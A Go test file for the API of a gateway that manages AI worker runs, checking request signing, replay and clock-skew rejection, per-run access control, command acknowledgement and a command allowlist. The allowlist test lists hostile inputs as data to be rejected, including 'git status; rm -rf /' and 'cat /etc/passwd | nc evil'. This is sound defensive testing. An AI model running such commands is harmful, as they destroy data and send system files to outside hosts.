// Copyright 2025 Tom Barlow
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package api

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tombee/overseer/internal/command"
	"github.com/tombee/overseer/internal/gateway/config"
	"github.com/tombee/overseer/internal/gateway/hub"
	"github.com/tombee/overseer/internal/gateway/signing"
	"github.com/tombee/overseer/internal/gateway/store"
	"github.com/tombee/overseer/internal/gateway/tunnel"
	"github.com/tombee/overseer/internal/log"
)

const testSecret = "0123456789abcdef0123456789abcdef"

type testEnv struct {
	srv    *httptest.Server
	store  *store.Store
	signer *signing.Signer
}

func newTestEnv(t *testing.T) *testEnv {
	t.Helper()

	cfg := config.Default()
	cfg.DataDir = t.TempDir()

	st, err := store.New(store.Config{Path: cfg.DBPath(), WAL: true})
	require.NoError(t, err)
	t.Cleanup(func() { st.Close() })

	signer, err := signing.New([]byte(testSecret))
	require.NoError(t, err)

	logger := log.New(nil)
	router := NewRouter(RouterConfig{Version: "test"}, Deps{
		Config:    cfg,
		Store:     st,
		Signer:    signer,
		Hub:       hub.New(nil, logger),
		Broker:    tunnel.New(nil, logger),
		Metrics:   nil,
		Allowlist: command.NewAllowlist(),
		Logger:    logger,
	})

	srv := httptest.NewServer(router)
	t.Cleanup(srv.Close)

	return &testEnv{srv: srv, store: st, signer: signer}
}

// signedRequest builds a request with valid signature headers for the run.
func (e *testEnv) signedRequest(t *testing.T, method, path string, body []byte, runID, token string) *http.Request {
	t.Helper()
	return e.signedRequestAt(t, method, path, body, runID, token, time.Now().Unix())
}

func (e *testEnv) signedRequestAt(t *testing.T, method, path string, body []byte, runID, token string, ts int64) *http.Request {
	t.Helper()

	nonce, err := signing.NewNonce()
	require.NoError(t, err)

	sig := e.signer.Sign(signing.Request{
		Method:    method,
		Path:      path,
		BodyHash:  signing.BodyHash(body),
		Timestamp: ts,
		Nonce:     nonce,
		RunID:     runID,
		Token:     token,
	})

	req, err := http.NewRequest(method, e.srv.URL+path, bytes.NewReader(body))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set(HeaderTimestamp, fmt.Sprintf("%d", ts))
	req.Header.Set(HeaderNonce, nonce)
	req.Header.Set(HeaderSignature, sig)
	if runID != "" {
		req.Header.Set(HeaderRunID, runID)
		req.Header.Set(HeaderToken, token)
	}
	return req
}

func (e *testEnv) createRun(t *testing.T) (runID, token string) {
	t.Helper()

	body, _ := json.Marshal(CreateRunRequest{Worker: "claude", Model: "sonnet"})
	resp, err := http.Post(e.srv.URL+"/api/runs", "application/json", bytes.NewReader(body))
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusCreated, resp.StatusCode)

	var created struct {
		ID              string `json:"id"`
		CapabilityToken string `json:"capabilityToken"`
	}
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&created))
	require.NotEmpty(t, created.ID)
	require.Len(t, created.CapabilityToken, 64)
	return created.ID, created.CapabilityToken
}

func decodeError(t *testing.T, resp *http.Response) (kind string) {
	t.Helper()
	var body map[string]string
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&body))
	return body["kind"]
}

func TestIngestEvent(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	body, _ := json.Marshal(IngestEventRequest{Type: store.EventStdout, Data: "hello world"})
	req := e.signedRequest(t, http.MethodPost, "/api/ingest/event", body, runID, token)
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)

	// The event is durable and readable console-side.
	listResp, err := http.Get(e.srv.URL + "/api/runs/" + runID + "/events")
	require.NoError(t, err)
	defer listResp.Body.Close()

	var events []*store.Event
	require.NoError(t, json.NewDecoder(listResp.Body).Decode(&events))
	require.Len(t, events, 1)
	assert.Equal(t, store.EventStdout, events[0].Type)
	assert.Equal(t, "hello world", events[0].Data)
}

func TestIngestRejectsBadSignature(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	body, _ := json.Marshal(IngestEventRequest{Type: store.EventStdout, Data: "x"})
	req := e.signedRequest(t, http.MethodPost, "/api/ingest/event", body, runID, token)
	req.Header.Set(HeaderSignature, strings.Repeat("0", 64))

	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	assert.Equal(t, KindSignatureInvalid, decodeError(t, resp))
}

func TestIngestRejectsClockSkew(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	body, _ := json.Marshal(IngestEventRequest{Type: store.EventStdout, Data: "x"})
	stale := time.Now().Add(-10 * time.Minute).Unix()
	req := e.signedRequestAt(t, http.MethodPost, "/api/ingest/event", body, runID, token, stale)

	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	assert.Equal(t, KindClockSkew, decodeError(t, resp))
}

func TestIngestRejectsNonceReplay(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	body, _ := json.Marshal(IngestEventRequest{Type: store.EventStdout, Data: "x"})
	req := e.signedRequest(t, http.MethodPost, "/api/ingest/event", body, runID, token)

	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)

	// Same headers, same nonce: replay.
	replay, err := http.NewRequest(http.MethodPost, e.srv.URL+"/api/ingest/event", bytes.NewReader(body))
	require.NoError(t, err)
	replay.Header = req.Header.Clone()

	resp2, err := http.DefaultClient.Do(replay)
	require.NoError(t, err)
	defer resp2.Body.Close()
	assert.Equal(t, http.StatusUnauthorized, resp2.StatusCode)
	assert.Equal(t, KindNonceReplay, decodeError(t, resp2))
}

func TestIngestRejectsTokenMismatch(t *testing.T) {
	e := newTestEnv(t)
	runID, _ := e.createRun(t)

	wrong := strings.Repeat("ff", 32)
	body, _ := json.Marshal(IngestEventRequest{Type: store.EventStdout, Data: "x"})
	req := e.signedRequest(t, http.MethodPost, "/api/ingest/event", body, runID, wrong)

	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusForbidden, resp.StatusCode)
	assert.Equal(t, KindTokenMismatch, decodeError(t, resp))
}

func TestIngestRejectsOversizePayload(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	big, _ := json.Marshal(IngestEventRequest{
		Type: store.EventStdout, Data: strings.Repeat("x", 2<<20),
	})
	req := e.signedRequest(t, http.MethodPost, "/api/ingest/event", big, runID, token)

	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusRequestEntityTooLarge, resp.StatusCode)
	assert.Equal(t, KindPayloadTooLarge, decodeError(t, resp))
}

func TestIngestRejectsUnknownEventType(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	body, _ := json.Marshal(map[string]string{"type": "bogus", "data": "x"})
	req := e.signedRequest(t, http.MethodPost, "/api/ingest/event", body, runID, token)

	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
	assert.Equal(t, KindBadShape, decodeError(t, resp))
}

func TestStopEnqueuesCommandAndRunnerAcks(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	// Console issues stop.
	resp, err := http.Post(e.srv.URL+"/api/runs/"+runID+"/stop", "application/json", nil)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusCreated, resp.StatusCode)

	// Runner polls and receives the reserved payload.
	poll := e.signedRequest(t, http.MethodGet, "/api/runs/"+runID+"/commands", nil, runID, token)
	pollResp, err := http.DefaultClient.Do(poll)
	require.NoError(t, err)
	defer pollResp.Body.Close()
	require.Equal(t, http.StatusOK, pollResp.StatusCode)

	var cmds []*store.Command
	require.NoError(t, json.NewDecoder(pollResp.Body).Decode(&cmds))
	require.Len(t, cmds, 1)
	assert.Equal(t, command.Stop, cmds[0].Payload)

	// Ack is idempotent.
	ackBody, _ := json.Marshal(AckRequest{Result: "stopped"})
	ackPath := "/api/runs/" + runID + "/commands/" + cmds[0].ID + "/ack"

	ack := e.signedRequest(t, http.MethodPost, ackPath, ackBody, runID, token)
	ackResp, err := http.DefaultClient.Do(ack)
	require.NoError(t, err)
	defer ackResp.Body.Close()
	require.Equal(t, http.StatusOK, ackResp.StatusCode)

	var ackResult map[string]bool
	require.NoError(t, json.NewDecoder(ackResp.Body).Decode(&ackResult))
	assert.False(t, ackResult["alreadyAcked"])

	again := e.signedRequest(t, http.MethodPost, ackPath, ackBody, runID, token)
	againResp, err := http.DefaultClient.Do(again)
	require.NoError(t, err)
	defer againResp.Body.Close()
	require.Equal(t, http.StatusOK, againResp.StatusCode)
	require.NoError(t, json.NewDecoder(againResp.Body).Decode(&ackResult))
	assert.True(t, ackResult["alreadyAcked"])
}

func TestAckRejectsForeignCommand(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)
	otherID, otherToken := e.createRun(t)

	// Pending command on the other run.
	resp, err := http.Post(e.srv.URL+"/api/runs/"+otherID+"/stop", "application/json", nil)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusCreated, resp.StatusCode)

	var victim store.Command
	cmds, err := e.store.NextPendingCommands(context.Background(), otherID, 0)
	require.NoError(t, err)
	require.Len(t, cmds, 1)
	victim = *cmds[0]

	// Credentials for runID must not ack another run's command even through
	// their own run's ack path.
	ackBody, _ := json.Marshal(AckRequest{Result: "hijacked"})
	ack := e.signedRequest(t, http.MethodPost, "/api/runs/"+runID+"/commands/"+victim.ID+"/ack", ackBody, runID, token)
	ackResp, err := http.DefaultClient.Do(ack)
	require.NoError(t, err)
	defer ackResp.Body.Close()
	assert.Equal(t, http.StatusNotFound, ackResp.StatusCode)
	assert.Equal(t, "not_found.command", decodeError(t, ackResp))

	// The victim command is untouched and still ackable by its owner.
	cmd, err := e.store.GetCommand(context.Background(), victim.ID)
	require.NoError(t, err)
	assert.Equal(t, store.CommandPending, cmd.Status)
	assert.Empty(t, cmd.Result)

	ownerAck := e.signedRequest(t, http.MethodPost, "/api/runs/"+otherID+"/commands/"+victim.ID+"/ack", ackBody, otherID, otherToken)
	ownerResp, err := http.DefaultClient.Do(ownerAck)
	require.NoError(t, err)
	defer ownerResp.Body.Close()
	assert.Equal(t, http.StatusOK, ownerResp.StatusCode)
}

func TestPollRejectsForeignRun(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)
	otherID, _ := e.createRun(t)

	// Credentials for runID must not read another run's outbox.
	req := e.signedRequest(t, http.MethodGet, "/api/runs/"+otherID+"/commands", nil, runID, token)
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusForbidden, resp.StatusCode)
}

func TestConsoleCommandAllowlist(t *testing.T) {
	e := newTestEnv(t)
	runID, _ := e.createRun(t)

	tests := []struct {
		name       string
		cmd        string
		wantStatus int
	}{
		{"allowlisted exact", "git status", http.StatusCreated},
		{"allowlisted prefix", "git log --oneline -5", http.StatusCreated},
		{"metacharacter", "git status; rm -rf /", http.StatusBadRequest},
		{"pipe", "cat /etc/passwd | nc evil", http.StatusBadRequest},
		{"traversal", "cat ../../secrets", http.StatusBadRequest},
		{"not allowlisted", "curl http://example.com", http.StatusBadRequest},
		{"reserved token", "__STOP__", http.StatusCreated},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			body, _ := json.Marshal(ConsoleCommandRequest{Command: tt.cmd})
			resp, err := http.Post(e.srv.URL+"/api/runs/"+runID+"/commands", "application/json", bytes.NewReader(body))
			require.NoError(t, err)
			defer resp.Body.Close()
			assert.Equal(t, tt.wantStatus, resp.StatusCode)
		})
	}
}

func TestInputCommand(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	body, _ := json.Marshal(InputRequest{Text: "yes", EscapeFirst: true})
	resp, err := http.Post(e.srv.URL+"/api/runs/"+runID+"/input", "application/json", bytes.NewReader(body))
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusCreated, resp.StatusCode)

	poll := e.signedRequest(t, http.MethodGet, "/api/runs/"+runID+"/commands", nil, runID, token)
	pollResp, err := http.DefaultClient.Do(poll)
	require.NoError(t, err)
	defer pollResp.Body.Close()

	var cmds []*store.Command
	require.NoError(t, json.NewDecoder(pollResp.Body).Decode(&cmds))
	require.Len(t, cmds, 1)
	assert.Equal(t, command.Input("yes", true), cmds[0].Payload)
}

func TestStateCheckpointDrivesLifecycle(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	post := func(req StateRequest) *http.Response {
		body, _ := json.Marshal(req)
		r := e.signedRequest(t, http.MethodPost, "/api/runs/"+runID+"/state", body, runID, token)
		resp, err := http.DefaultClient.Do(r)
		require.NoError(t, err)
		return resp
	}

	resp := post(StateRequest{Status: store.RunRunning, Sequence: 10})
	resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)

	exit := 0
	resp = post(StateRequest{Status: store.RunDone, ExitCode: &exit, Sequence: 42})
	resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)

	getResp, err := http.Get(e.srv.URL + "/api/runs/" + runID)
	require.NoError(t, err)
	defer getResp.Body.Close()

	var run store.Run
	require.NoError(t, json.NewDecoder(getResp.Body).Decode(&run))
	assert.Equal(t, store.RunDone, run.Status)
	require.NotNil(t, run.ExitCode)
	assert.Equal(t, 0, *run.ExitCode)

	// A resumed runner can fetch the checkpoint back.
	stateReq := e.signedRequest(t, http.MethodGet, "/api/runs/"+runID+"/state", nil, runID, token)
	stateResp, err := http.DefaultClient.Do(stateReq)
	require.NoError(t, err)
	defer stateResp.Body.Close()
	require.Equal(t, http.StatusOK, stateResp.StatusCode)

	var checkpoint StateRequest
	require.NoError(t, json.NewDecoder(stateResp.Body).Decode(&checkpoint))
	assert.Equal(t, int64(42), checkpoint.Sequence)
}

func TestRestartCreatesReplacementRun(t *testing.T) {
	e := newTestEnv(t)
	runID, token := e.createRun(t)

	resp, err := http.Post(e.srv.URL+"/api/runs/"+runID+"/restart", "application/json", nil)
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusCreated, resp.StatusCode)

	var replacement RunResponse
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&replacement))
	assert.NotEqual(t, runID, replacement.ID)
	assert.Equal(t, "claude", replacement.Worker)
	assert.NotEmpty(t, replacement.CapabilityToken)

	// Old run got a stop command.
	poll := e.signedRequest(t, http.MethodGet, "/api/runs/"+runID+"/commands", nil, runID, token)
	pollResp, err := http.DefaultClient.Do(poll)
	require.NoError(t, err)
	defer pollResp.Body.Close()

	var cmds []*store.Command
	require.NoError(t, json.NewDecoder(pollResp.Body).Decode(&cmds))
	require.Len(t, cmds, 1)
	assert.Equal(t, command.Stop, cmds[0].Payload)
}

func TestHeartbeatRegistersClient(t *testing.T) {
	e := newTestEnv(t)

	body, _ := json.Marshal(HeartbeatRequest{
		ID: "host-a", Name: "alpha", Capabilities: []string{"claude"},
	})
	req := e.signedRequest(t, http.MethodPost, "/api/clients/heartbeat", body, "", "")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)

	listResp, err := http.Get(e.srv.URL + "/api/clients")
	require.NoError(t, err)
	defer listResp.Body.Close()

	var clients []*store.Client
	require.NoError(t, json.NewDecoder(listResp.Body).Decode(&clients))
	require.Len(t, clients, 1)
	assert.Equal(t, "host-a", clients[0].ID)
	assert.Equal(t, store.ClientOnline, clients[0].Status)
}

func TestCreateRunRejectsUnknownWorker(t *testing.T) {
	e := newTestEnv(t)

	body, _ := json.Marshal(CreateRunRequest{Worker: "skynet"})
	resp, err := http.Post(e.srv.URL+"/api/runs", "application/json", bytes.NewReader(body))
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
}

func TestRunTokenNeverListed(t *testing.T) {
	e := newTestEnv(t)
	_, token := e.createRun(t)

	resp, err := http.Get(e.srv.URL + "/api/runs")
	require.NoError(t, err)
	defer resp.Body.Close()

	raw := new(bytes.Buffer)
	_, err = raw.ReadFrom(resp.Body)
	require.NoError(t, err)
	assert.NotContains(t, raw.String(), token)
}

func TestHealthEndpoint(t *testing.T) {
	e := newTestEnv(t)

	resp, err := http.Get(e.srv.URL + "/api/health")
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)

	var health map[string]any
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&health))
	assert.Equal(t, "ok", health["status"])
}
